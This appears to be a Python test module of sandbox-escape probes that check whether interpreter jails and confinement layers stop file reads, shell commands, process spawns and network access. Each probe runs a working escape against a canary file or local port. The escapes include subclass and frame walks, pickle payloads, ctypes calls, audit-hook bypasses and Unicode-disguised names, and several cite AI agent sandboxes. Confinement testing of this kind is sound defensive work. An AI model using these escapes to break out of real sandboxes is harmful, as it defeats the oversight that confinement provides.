"""Ways out of jails inside the interpreter: walks over objects, frames and modules that the jail forgot.

In the language they succeed, and nothing can be done about that. What counts is the act at their end, which
confinement has to withhold all the same.
"""

from __future__ import annotations

from .toolkit import Canary, must, probe

TYPE_CHECKING = False
if TYPE_CHECKING:
    from types import FrameType

JAIL: dict[str, object] = {"__builtins__": {}}  # eval and exec in it have no builtins


def jailed(text: str, **names: object) -> object:
    """Evaluate an expression without any builtins."""
    return eval(text, dict(JAIL), names)


def read_by(os: object, path: str) -> object:
    """Read a file by whatever was found to be the module os or posix."""
    return os.read(os.open(path, 0), 200)  # type: ignore[attr-defined]  # -- found on the way


@probe(
    "fs.read.content",
    "CWE-95; docs.python.org/3/reference/datamodel.html: __subclasses__, the way out of every Python jail",
)
def subclasses(canary: Canary) -> object:
    """Find os among the globals of a class that anybody can reach from an empty tuple."""
    text = "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__"
    return read_by(jailed(f"{text}['sys'].modules['posix']"), canary.secret)


@probe("fs.read.content", "CVE-2023-37271 (RestrictedPython)")
def frame_of_a_generator(canary: Canary) -> object:
    """Climb from a generator's frame to the builtins outside of the jail."""
    code = "def g():\n yield h.gi_frame.f_back.f_back\nh = g()\nframe = [x for x in h][0]\n"
    names: dict[str, object] = dict(JAIL)
    exec(code, names)
    frame: FrameType | None = names["frame"]  # type: ignore[assignment]  # -- made in the jail
    while frame is not None and "open" not in frame.f_builtins:
        frame = frame.f_back
    must(frame is not None)
    return frame.f_builtins["open"](canary.secret).read()  # type: ignore[union-attr]  # -- checked


@probe("fs.read.content", "CVE-2023-41039 (RestrictedPython), CVE-2025-24359 (asteval), CVE-2016-10745 (jinja2)")
def fields_of_a_format(canary: Canary) -> object:
    """Reach a module by the attributes and items that a format string names."""
    import string

    way = "0.vformat.__globals__[_re].enum.sys.modules[posix]"
    return read_by(string.Formatter().get_field(way, (string.Formatter(),), {})[0], canary.secret)


@probe("fs.read.content", "CVE-2024-47532 (RestrictedPython), CVE-2026-0863 (n8n): AttributeError.obj")
def object_of_an_error(canary: Canary) -> object:
    """Take a hidden object out of the error that its missing attribute raised."""
    import os

    class Guarded:
        def ask(self, name: str) -> object:
            return getattr(os, name)

    try:
        Guarded().ask("canary")
    except AttributeError as error:
        return read_by(error.obj, canary.secret)  # since Python 3.10
    return "no error"


@probe("fs.read.content", "CVE-2026-0863 (n8n): what an error carries, here its frames")
def frame_of_a_traceback(canary: Canary) -> object:
    """Take the builtins from the frames of an error that a trusted function raised."""

    def trusted() -> None:
        raise KeyError

    try:
        trusted()
    except KeyError as error:
        traceback = error.__traceback__
        while traceback is not None and traceback.tb_next is not None:
            traceback = traceback.tb_next
        must(traceback is not None)
        return traceback.tb_frame.f_builtins["open"](canary.secret).read()  # type: ignore[union-attr]  # -- checked
    return "no error"


@probe("fs.read.content", "microsoft/agent-governance-toolkit#2631")
def list_of_modules(canary: Canary) -> object:
    """Take a forbidden module from the list of those that are loaded."""
    import sys

    return read_by(sys.modules["os"], canary.secret)


@probe("fs.read.content", "CVE-2025-5120 (smolagents): a module inside an allowed module")
def module_in_a_module(canary: Canary) -> object:
    """Reach os through a module that is allowed."""
    import random

    return read_by(random._os, canary.secret)  # type: ignore[attr-defined]  # -- that is the point


@probe("fs.read.content", "docs.python.org/3/library/importlib.html: BuiltinImporter, no name is searched")
def importer_of_builtins(canary: Canary) -> object:
    """Load a module by the importer that a class of the interpreter holds."""
    text = "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'BuiltinImporter'][0]"
    return read_by(jailed(f"{text}.load_module('posix')"), canary.secret)


@probe("fs.read.content", "docs.python.org/3/library/gc.html: get_objects")
def collector(canary: Canary) -> object:
    """Find a module among all objects that the collector knows."""
    import gc
    import types

    found = next(it for it in gc.get_objects() if isinstance(it, types.ModuleType) and it.__name__ == "posix")
    return read_by(found, canary.secret)


@probe("fs.read.content", "PEP 672, PEP 3131: names are normalised after a filter of source text has looked")
def letters_that_look_otherwise(canary: Canary) -> object:
    """Write names in letters that no filter of text knows, and that the parser makes plain."""
    return eval("𝘰𝘱𝘦𝘯(path).𝘳𝘦𝘢𝘥()", {"path": canary.secret})


@probe("fs.read.content", "CWE-502; CVE-2025-14931 (smolagents)")
def pickle(canary: Canary) -> object:
    """Let an unpickler call what the bytes name."""
    import pickle

    class Bad:
        def __reduce__(self) -> tuple[object, ...]:
            return eval, (f"open({canary.secret!r}).read()",)

    return pickle.loads(pickle.dumps(Bad()))


@probe("fs.read.content", "CWE-470; docs.python.org/3/library/logging.config.html: the key `()`")
def configuration_of_logging(canary: Canary) -> object:
    """Let a configuration name what is called to make a handler."""
    import logging
    import logging.config

    handlers = {"h": {"()": "logging.FileHandler", "filename": canary.secret, "mode": "r"}}
    logging.config.dictConfig({"version": 1, "handlers": handlers, "root": {"handlers": ["h"]}})
    handler = logging.getLogger().handlers[0]
    return handler.stream.read()  # type: ignore[attr-defined]  # -- a FileHandler


@probe("fs.read.content", "PEP 554, PEP 734: audit hooks and limits of one interpreter")
def another_interpreter(canary: Canary) -> object:
    """Execute in a second interpreter what the first one forbids."""
    import importlib
    import os

    try:
        module = importlib.import_module("_interpreters")
    except ImportError:
        module = importlib.import_module("_xxsubinterpreters")  # before Python 3.13
    reader, writer = os.pipe()
    number = module.create()
    module.run_string(number, f"import os; os.write({writer}, open({canary.secret!r}, 'rb').read())")
    os.close(writer)
    return os.read(reader, 200)


@probe("fs.read.content", "python/cpython#115322: no event where a C library opens")
def past_an_audit_hook(canary: Canary) -> object:
    """Read past an audit hook that refuses to open anything."""
    import readline
    import sys

    def refuse(event: str, _: object) -> None:
        if event in ("open", "os.open", "import", "exec", "compile"):
            raise PermissionError(event)

    sys.addaudithook(refuse)
    readline.read_history_file(canary.secret)
    return readline.get_history_item(1)


@probe(
    "fs.read.content", "docs.python.org/3/library/ctypes.html: pythonapi, the interpreter asked below its own language"
)
def interpreter_below_the_language(canary: Canary) -> object:
    """Let the interpreter execute text by its C interface."""
    import ctypes
    import os

    reader, writer = os.pipe()
    text = f"import os; os.write({writer}, open({canary.secret!r}, 'rb').read())"
    must(ctypes.pythonapi.PyRun_SimpleString(text.encode()) == 0, "it failed")
    os.close(writer)
    return os.read(reader, 200)


@probe("fs.read.content", "docs.python.org/3/reference/datamodel.html: __code__ can be assigned")
def code_in_a_trusted_function(canary: Canary) -> object:
    """Replace the code of a function that is trusted."""

    def trusted() -> object:
        return None

    trusted.__code__ = compile(f"open({canary.secret!r}).read()", "x", "eval").replace(co_name="trusted")
    return trusted()


@probe("fs.read.content", "CVE-2026-55244 (asteval); PEP 352: BaseException passes `except Exception`")
def error_that_is_not_caught(canary: Canary) -> object:
    """Leave a jail by an error that it does not catch, with what it carries."""

    class Out(BaseException):
        pass

    def jail(act: object) -> object:
        try:
            return act()  # type: ignore[operator]  # -- a function
        except Exception:
            return "caught"

    def act() -> object:
        raise Out(open(canary.secret).read())

    try:
        return jail(act)
    except Out as out:
        return out.args[0]


@probe("proc.shell.sh", "CVE-2025-3248 (Langflow): code in defaults and decorators runs when it is defined")
def code_that_runs_when_it_is_defined(canary: Canary) -> None:
    """Execute a command in the default of a parameter of a function that is never called."""
    path = f"{canary.folder}/directory/defined"
    exec(f"def never(x=__import__('os').system('echo x > {path}')): pass")
    import os

    must(os.path.exists(path))


@probe("net.connect.tcp", "CVE-2026-2654 (smolagents): requests to the inside of a network")
def request_of_a_library(canary: Canary) -> object:
    """Let an allowed library fetch an address of the host."""
    import socket

    made = socket.create_connection(("localhost", canary.port), 2)
    made.settimeout(2)
    return made.recv(200)


@probe("proc.spawn.other", "pzfreo/build123d-mcp#314: an import that an allowed package makes later")
def import_of_an_allowed_package(canary: Canary) -> None:
    """Let an allowed function start programs on the side: find_library runs ldconfig or a compiler."""
    import ctypes.util

    must(ctypes.util.find_library("c"), "it found nothing")
